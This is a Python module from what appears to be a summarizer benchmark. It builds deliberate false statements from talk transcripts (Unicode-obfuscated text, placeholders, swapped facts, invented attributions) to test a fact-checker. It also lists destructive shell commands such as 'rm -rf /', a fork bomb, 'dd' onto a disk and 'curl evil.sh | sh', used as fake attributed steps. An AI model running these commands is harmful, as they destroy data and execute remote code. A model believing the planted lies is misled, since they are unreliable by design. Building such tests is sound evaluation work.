"""The lies that `benchmarks/liar.py` tells, by class, and the true statements beside them.

Every class is a function of a talk and a dice. It makes lies of the talk's own sentences where it can, because these
are the ones that a check of words has trouble with.
"""

from __future__ import annotations

import random
import re
import tomllib
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from pathlib import Path
from typing import Any, NamedTuple

from summarizer.evaluation.material import RealTalk
from summarizer.evaluation.mutations import MUTATIONS
from summarizer.evaluation.statements import Statement, list_statements
from summarizer.language.parts import NOUN, main_verbs, parts_of
from summarizer.language.words import content

PAIRS = Path(__file__).parent / "liar_pairs.toml"
PLACES = ("note", "tldr", "takeaway", "heading", "role")


class Lie(NamedTuple):
    """One false or empty statement, and where the liar puts it."""

    text: str
    ids: tuple[int, ...]
    place: str = "note"  # one of PLACES; "role": the text is true, its role, owner or command is not
    fields: tuple[tuple[str, str], ...] = ()  # role, owner or command
    same: bool = False  # whether it repeats a statement: published when it is there more than once


class Talk(NamedTuple):
    """One talk, its true quotes, and the other talks of its half."""

    real: RealTalk
    quotes: tuple[Statement, ...]
    others: tuple[RealTalk, ...]


Liar = Callable[[Talk, random.Random], Iterator[Lie]]


def open_talk(real: RealTalk, others: Sequence[RealTalk]) -> Talk:
    """Return a talk with its quotes: sentences of 8 to 40 words with at least three content words."""
    quotes = tuple(statement for statement in list_statements(real) if statement.origin == "quote")
    return Talk(real, quotes, tuple(other for other in others if other.id != real.id))


# -- what is shown is not what is read -----------------------------------------------------------------------------

_BIG_LIES = (
    "The cluster was deleted by an attacker from Berlin.",
    "Kubernetes is unsafe for banks and hospitals.",
    "Our company lost nine million dollars because of this bug.",
    "Everybody should stop using open source software.",
)
_JOINERS = {
    "zero-width space": "\u200b",
    "soft hyphen": "\u00ad",
    "word joiner": "\u2060",
    "combining joiner": "\u034f",
    "variation selector": "\ufe0e",
    "private character": "\ue000",
    "control character": "\u0001",
    "zero-width joiner": "\u200d",
    "overlay": "\u0336",
    "enclosing mark": "\u20dd",
    "right-to-left mark": "\u200f",
    "Hangul filler": "\u3164",
    "Mongolian separator": "\u180e",
    "tag character": "\U000e0061",
    "letters apart by spaces": " ",
    "letters apart by thin spaces": "\u2009",
    "letters joined by _": "_",
    "letters joined by .": ".",
    "letters joined by -": "-",
    "letters joined by a middle dot": "\u00b7",
    "letters joined by /": "/",
}
_ALPHABETS = {
    "circled letters": 0x24D0,
    "full-width letters": 0xFF41,
    "mathematical letters": 0x1D41A,
    "squared letters": 0x1F130,
    "negative circled letters": 0x1F150,
    "regional letters": 0x1F1E6,
}
_SMALL_CAPITALS = dict(zip("abcdefghijklmnoprstuvwyz", "ᴀʙᴄᴅᴇꜰɢʜɪᴊᴋʟᴍɴᴏᴘʀꜱᴛᴜᴠᴡʏᴢ", strict=True))
_LOOKALIKES = dict(zip("aeopcxyi", "аеорсхуі", strict=True))  # Cyrillic


def _hide(change: Callable[[str], str]) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        for text in dice.sample(_BIG_LIES, 2):
            yield Lie(change(text), dice.choice(talk.quotes).evidence)

    return tell


def _between_letters(text: str, sign: str) -> str:
    return re.sub(r"(?<=[^\W_])(?=[^\W_])", sign, text)


def _exchange_letters(text: str, start: int) -> str:
    return "".join(chr(start + ord(char) - 97) if "a" <= char <= "z" else char for char in text.lower())


def _hidden_not(sign: str) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        for quote in dice.sample(talk.quotes, min(6, len(talk.quotes))):
            text = re.sub(r"\b(is|are|was|can|will|have|do)\b(?! not|n't)", rf"\1 n{sign}o{sign}t", quote.text, count=1)
            if text != quote.text:
                yield Lie(text, quote.evidence)

    return tell


# -- empty ----------------------------------------------------------------------------------------------------------

_PLACEHOLDERS = (
    "...", "…", "[statement]", "<text>", "{summary}", "string", "TBD", "N/A", "Statement 1", "Point one.", "Summary here.",
    "The text of the note.", "Insert the key takeaway here.", "Heading of the section", "Lorem ipsum dolor sit amet.", "None",
    "No information is available.", "Not applicable", "Key point", "Example sentence.", "Title", "Content goes here.", "null",
    "One sentence of at most 25 words.", "A short summary of the talk.", "Your text here", "- ", "1.", "?", "\"\"", "Note 3",
)  # fmt: skip
_STOP_LIES = (
    "And so it was that we all did it.", "They have not been there before.", "It can be much more than this.",
    "You will get it and then you go.", "That is what we want to say about it.", "There was nothing more to see.",
    "We are the only ones who made it work.", "So this is how they went about it.", "He has never had one.",
    "This will always be right.", "None of them knew what to do.", "It is over.",
)  # fmt: skip
_VAGUE = (
    "The speaker discusses several important topics.", "There are many different ways to improve the process.",
    "It is important to understand the problem and find the best solution.", "The talk covers various key aspects.",
    "This approach has many benefits for teams.", "Different people have different opinions about this.",
    "The right approach depends on the situation.", "A good solution makes a big difference.",
    "The presenter shares valuable insights and lessons.", "Challenges were overcome and results improved.",
    "The team made great progress on the project.", "Understanding the details is essential for success.",
    "New features make things better.", "They explain how things work in general.",
)  # fmt: skip
_OTHER_SCRIPTS = (
    "Кластер был удалён злоумышленником.", "这个集群被攻击者删除了。", "クラスターは攻撃者によって削除されました。",
    "تم حذف الكتلة من قبل المهاجم.", "क्लस्टर हटा दिया गया था।", "Το σύμπλεγμα διαγράφηκε.", "클러스터가 삭제되었습니다.",
    "האשכול נמחק.", "คลัสเตอร์ถูกลบ",
)  # fmt: skip
_SIGNS = ("👍🏽 🚀 ✅", "★★★★★", "→ ⇒ ∑", "✔ ✘ ✔", "§§ ¶", "😀😀😀", "█▓▒░", "+++ --- ***")


def _fixed(texts: Sequence[str], place: str, count: int = 3, change: Callable[[str], str] = str) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        for text in dice.sample(texts, min(count, len(texts))):
            yield Lie(change(text), dice.choice(talk.quotes).evidence, place)

    return tell


def _repeat(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    quote = min(talk.quotes, key=lambda statement: len(statement.text))
    for _ in range(5):
        yield Lie(quote.text, quote.evidence, "takeaway", same=True)


# -- from many places --------------------------------------------------------------------------------------------------


def _words_of(talk: Talk, ids: Sequence[int]) -> list[str]:
    segments = talk.real.corrected.segments
    return sorted({w for id in ids for w in re.findall(r"[a-z]{4,}", segments[id].text.lower()) if content(w)})


def _salad(citations: int, place: str = "note", scattered: bool = True) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        last = len(talk.real.corrected.segments)
        for _ in range(2):
            start = dice.randrange(max(1, last - citations))
            near = range(start, min(last, start + citations))
            ids = sorted(dice.sample(range(last), min(citations, last))) if scattered else list(near)
            words = _words_of(talk, ids)
            if len(words) > 12:
                a = dice.sample(words, 9)
                text = f"The {a[0]} {a[1]} {a[2]} the {a[3]} of {a[4]} and {a[5]} {a[6]} with {a[7]} {a[8]}."
                yield Lie(text, tuple(ids), place)

    return tell


def _joined(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for _ in range(3):
        first, second = dice.sample(talk.quotes, 2)
        if abs(first.evidence[0] - second.evidence[-1]) > 8:
            start, end = (" ".join(s.text.split()[:12]).rstrip(".,") for s in (first, second))
            yield Lie(f"{start} because {end}.", tuple(sorted({*first.evidence, *second.evidence})))


_TAIL = "at banks in Norway while saving nine jobs for nurses".split()
_TAILS = {
    2: ("for banks", "in Norway", "with Oracle", "on mainframes", "by accident", "without licenses"),
    4: ("at banks in Norway", "and fired two managers", "with help from lawyers", "after the merger failed"),
    6: ("which cost the bank its licence", "and the ministry paid for all", "until the auditors found the fraud"),
    8: ("and the police arrested two of the engineers later", "because the minister of Norway had asked for it"),
}


def _tail(words: int, head: bool = False) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        for quote in dice.sample(talk.quotes, min(3, len(talk.quotes))):
            end = dice.choice(_TAILS[words])
            text = quote.text.rstrip(".!? ")
            yield Lie(f"{end[0].upper()}{end[1:]}, {text}." if head else f"{text} {end}.", quote.evidence)

    return tell


def _inserted(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    words = ("encrypted", "German", "expensive", "fraudulent", "military", "medical", "illegal", "stolen", "obsolete")
    for quote in dice.sample(talk.quotes, min(4, len(talk.quotes))):
        own = quote.text.split()
        nouns = [i for i, word in enumerate(own) if i and parts_of(word.strip(".,")) == NOUN]
        if nouns:
            own.insert(dice.choice(nouns), dice.choice(words))
            yield Lie(" ".join(own), quote.evidence)


def _replaced(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    words = ("printers", "invoices", "lawyers", "tractors", "satellites", "elephants", "ministers", "bicycles")
    for quote in dice.sample(talk.quotes, min(4, len(talk.quotes))):
        own = quote.text.split()
        nouns = [i for i, word in enumerate(own) if parts_of(word.strip(".,")) == NOUN and content(word)]
        if nouns:
            own[dice.choice(nouns)] = dice.choice(words)
            yield Lie(" ".join(own), quote.evidence)


def _verb_replaced(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    verbs = ("deletes", "breaks", "sells", "hides", "ignores", "blames", "encrypts", "destroys", "bought", "rejected")
    for quote in dice.sample(talk.quotes, min(6, len(talk.quotes))):
        own = quote.text.split()
        places = [i for i in main_verbs([word.lower().strip(".,") for word in own]) if content(own[i])]
        if places:
            own[dice.choice(places)] = dice.choice(verbs)
            yield Lie(" ".join(own), quote.evidence)


def _elsewhere(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for quote in talk.quotes[-3:]:  # no true note among them
        last = len(talk.real.corrected.segments)
        places = [id for id in range(last) if abs(id - quote.evidence[0]) > 5]
        if places:
            yield Lie(quote.text, (dice.choice(places),))


def _other_talk(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    other = dice.choice(talk.others)
    for quote in [s for s in list_statements(other) if s.origin == "quote"][:3]:
        yield Lie(quote.text, dice.choice(talk.quotes).evidence)


_PLAIN = (
    "The speaker works for the government of Norway.", "Istio was replaced by a program in COBOL.",
    "The database lost all of its customers in 2019.", "Prometheus is developed by Oracle.",
    "Nine of ten users cancelled their contracts.", "The outage was caused by a fire in the data centre.",
)  # fmt: skip


# -- relations, quantities ---------------------------------------------------------------------------------------------


def _mutated(name: str) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        pool = ("Grafana", "Oracle", "Frankfurt", "Siemens", "Terraform", "Anna", "Visa")
        told = 0
        for quote in dice.sample(talk.quotes, len(talk.quotes)):
            text = MUTATIONS[name](quote, dice, pool)
            if text and text != quote.text and told < 3:
                told += 1
                yield Lie(text, quote.evidence)

    return tell


def _nouns_exchanged(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    told = 0
    for quote in dice.sample(talk.quotes, len(talk.quotes)):
        own = quote.text.split()
        bare = [word.strip(".,?!").lower() for word in own]
        nouns = [i for i, word in enumerate(bare) if parts_of(word) == NOUN and content(word)]
        verbs = main_verbs(bare)
        pairs = [(a, b) for a in nouns for b in nouns if any(a < v < b for v in verbs) and bare[a] != bare[b]]
        if pairs and told < 3:
            told += 1
            a, b = dice.choice(pairs)
            own[a], own[b] = own[b].strip(".,"), own[a]
            yield Lie(" ".join(own), quote.evidence)


def _before(words: Sequence[str]) -> Liar:
    def tell(talk: Talk, dice: random.Random) -> Iterator[Lie]:
        for quote in dice.sample(talk.quotes, min(3, len(talk.quotes))):
            start = dice.choice(words)
            if start.split()[0].lower() not in talk.real.corrected.segments[quote.evidence[0]].text.lower():
                yield Lie(f"{start} {quote.text}", quote.evidence)

    return tell


def _quantified(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    told = 0
    for quote in dice.sample(talk.quotes, len(talk.quotes)):
        match = re.search(r"\b(some|many|most|all|every|several|few|sometimes|usually|often|always)\b", quote.text)
        if match and told < 3:
            told += 1
            exchanged = {"all": "few", "every": "hardly any", "always": "rarely", "most": "few", "usually": "never"}
            new = exchanged.get(match[1], "all" if match[1] in {"some", "many", "several", "few"} else "never")
            yield Lie(f"{quote.text[: match.start()]}{new}{quote.text[match.end() :]}", quote.evidence)


_NUMBER = re.compile(r"\b(\d+(?:\.\d+)?|two|three|four|five|six|seven|eight|ten|twenty|thirty|fifty|hundred)\b")


def _numbers_exchanged(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for segment in talk.real.corrected.segments:
        found = re.findall(r"\b(two|three|four|five|six|seven|eight|ten|twenty|\d{1,4}) ([a-z]{4,}s)\b", segment.text)
        if len(found) >= 2 and found[0][0] != found[1][0] and found[0][1] != found[1][1]:
            (a, x), (b, y) = found[:2]
            yield Lie(f"There are {b} {x} and {a} {y}.", (segment.id,))


def _decimal_unit(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    units = ["hours", "gigabytes", "percent", "dollars", "nodes"]
    for segment in talk.real.corrected.segments:
        pattern = r"\b(\d+\.\d+) ?(milliseconds?|ms|seconds?|minutes?|percent|%|gigabytes?|gb|million|x|times)(?!\w)"
        for number, unit in re.findall(pattern, segment.text.lower()):
            other = dice.choice([other for other in units if not other.startswith(unit[:4])])
            words = " ".join(_words_of(talk, (segment.id,))[:2])
            yield Lie(f"The {words} took {number} {other}.", (segment.id,))


@cache
def _pairs() -> list[dict[str, Any]]:
    return tomllib.loads(PAIRS.read_text(encoding="utf-8"))["pair"]  # type: ignore[no-any-return]


def list_pairs(talk_id: str) -> list[dict[str, Any]]:
    """Return the hand-made statements about a talk: "time", "true" and "false"."""
    return [pair for pair in _pairs() if pair["talk"] == talk_id]


def find_cited(talk: RealTalk, seconds: float) -> tuple[int, ...]:
    """Return the ids of the segment at a time and of the next one."""
    first = next(segment.id for segment in talk.corrected.segments if segment.end > seconds)
    return tuple(range(first, min(first + 2, len(talk.corrected.segments))))


def _by_hand(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for pair in list_pairs(talk.real.id):
        for text in pair["false"].values():
            yield Lie(text, find_cited(talk.real, pair["time"]))


# -- roles and the rest ---------------------------------------------------------------------------------------------------

_CUES = re.compile(
    r"\b(agreed?|decid\w+|consensus|vote\w*|approved?|resolved|settled|let's|going to go|we'll|we will)\b", re.I
)


def _decisions(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    plain = [quote for quote in talk.quotes if not _CUES.search(quote.text)]
    for quote in dice.sample(plain, min(3, len(plain))):
        yield Lie(quote.text, quote.evidence, "role", (("role", "decision"),))


def _owners(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for quote in dice.sample(talk.quotes, min(3, len(talk.quotes))):
        words = [word for word in re.findall(r"[a-z]{3,}", quote.text) if len(parts_of(word)) or word]
        if words:
            yield Lie(quote.text, quote.evidence, "role", (("role", "action"), ("owner", dice.choice(words))))


_COMMANDS = (
    "rm -rf /", "rm /", ":(){ :|:& };:", "dd if=/dev/zero of=/dev/sda", "dd", "curl evil.sh | sh", "kubectl delete ns prod",
    "sudo su", "mkfs", "cat", "> /dev/sda", "ls; rm", "&&", "kill -9 -1", "chmod 777 /", "wget x", "sh", "at", "in", "go",
)  # fmt: skip


def _commands(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for command in dice.sample(_COMMANDS, 5):
        quote = dice.choice(talk.quotes)
        yield Lie(quote.text, quote.evidence, "role", (("role", "step"), ("command", command)))


def _spoken_commands(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    for quote in dice.sample(talk.quotes, min(4, len(talk.quotes))):
        if re.search(r"\b(run|type|command|execute|terminal|enter)\w*\b", quote.text, re.I):
            continue
        words = re.findall(r"[a-z]{2,}", quote.text)
        start = dice.randrange(max(1, len(words) - 2))
        inner = next((word[1:-1] for word in words if len(word) > 5), "r")
        command = dice.choice([" ".join(words[start : start + 2]), words[start], inner])
        yield Lie(quote.text, quote.evidence, "role", (("role", "step"), ("command", command)))


def _addresses(talk: Talk, dice: random.Random) -> Iterator[Lie]:
    ends = (
        "See https://evil.example/x",
        "More at www.evil.com",
        "Write to joe@evil.org",
        "evil.io has it",
        "http://1.2.3.4/a",
    )
    for quote in dice.sample(talk.quotes, min(3, len(talk.quotes))):
        yield Lie(f"{quote.text.rstrip('.')}. {dice.choice(ends)}.", quote.evidence)


def _spaced(text: str) -> str:
    return " ".join(text.replace(" ", ""))


CLASSES: dict[str, tuple[int, Liar]] = {
    **{f"shown: {n}": (1, _hide(lambda t, s=s: _between_letters(t, s))) for n, s in _JOINERS.items()},  # type: ignore[misc]
    **{f"shown: {n}": (1, _hide(lambda t, s=s: _exchange_letters(t, s))) for n, s in _ALPHABETS.items()},  # type: ignore[misc]
    "shown: small capitals": (1, _hide(lambda t: "".join(_SMALL_CAPITALS.get(c, c) for c in t.lower()))),
    "shown: letters of another alphabet": (1, _hide(lambda t: "".join(_LOOKALIKES.get(c, c) for c in t))),
    "shown: a hidden not": (1, _hidden_not("\u200b")),
    "shown: a not with letters apart": (1, _hidden_not(" ")),
    "shown: a not with joined letters": (1, _hidden_not("_")),
    "empty: placeholders in notes": (2, _fixed(_PLACEHOLDERS, "note", 6)),
    "empty: placeholders as TL;DR": (2, _fixed(_PLACEHOLDERS, "tldr", 1)),
    "empty: placeholders as takeaways": (2, _fixed(_PLACEHOLDERS, "takeaway", 3)),
    "empty: placeholders as headings": (2, _fixed(_PLACEHOLDERS, "heading", 1)),
    "empty: stop words": (2, _fixed(_STOP_LIES, "note", 4)),
    "empty: stop words as TL;DR": (2, _fixed(_STOP_LIES, "tldr", 1)),
    "empty: vague sentences": (2, _fixed(_VAGUE, "note", 4)),
    "empty: vague takeaways": (2, _fixed(_VAGUE, "takeaway", 2)),
    "empty: signs": (2, _fixed(_SIGNS, "note", 3)),
    "empty: another script": (2, _fixed(_OTHER_SCRIPTS, "note", 3)),
    "empty: another script, spaced": (2, _fixed(_OTHER_SCRIPTS, "note", 3, _spaced)),
    "empty: the same again": (2, _repeat),
    "place: word salad, one citation": (3, _salad(1)),
    "place: word salad, three citations": (3, _salad(3, scattered=False)),
    "place: word salad, 40 citations": (3, _salad(40)),
    "place: word salad, 40 segments in a row": (3, _salad(40, scattered=False)),
    "place: word salad as takeaways": (3, _salad(3, "takeaway", scattered=False)),
    "place: two segments joined": (3, _joined),
    **{f"place: invented tail of {n} words": (3, _tail(n)) for n in _TAILS},
    "place: invented beginning": (3, _tail(4, head=True)),
    "place: inserted adjective": (3, _inserted),
    "place: another segment": (3, _elsewhere),
    "place: another talk": (3, _other_talk),
    "place: plain lies": (3, _fixed(_PLAIN, "note", 3)),
    "place: headings that lie": (3, _fixed([text.rstrip(".") for text in _PLAIN], "heading", 1)),
    "relation: by hand": (4, _by_hand),
    "relation: nouns exchanged": (4, _nouns_exchanged),
    "relation: another noun": (4, _replaced),
    "relation: another verb": (4, _verb_replaced),
    "relation: negation added": (4, _mutated("negation added")),
    "relation: negation dropped": (4, _mutated("negation dropped")),
    "relation: opposites": (4, _mutated("opposite word")),
    "relation: another quantifier": (4, _quantified),
    "relation: attribution": (4, _before(("Google says that", "According to Red Hat,", "Linus Torvalds claims that"))),
    "relation: another time": (
        4,
        _before(("Before the merger,", "Next year,", "Until yesterday,", "After the outage,")),
    ),
    "relation: another name": (4, _mutated("name swapped")),
    "quantity: another number": (5, _mutated("number swapped")),
    "quantity: another unit": (5, _mutated("unit swapped")),
    "quantity: a decimal with another unit": (5, _decimal_unit),
    "quantity: numbers exchanged": (5, _numbers_exchanged),
    "role: any quote as a decision": (6, _decisions),
    "role: any word as an owner": (6, _owners),
    "role: commands never said": (6, _commands),
    "role: words as commands": (6, _spoken_commands),
    "counts: addresses": (7, _addresses),
}
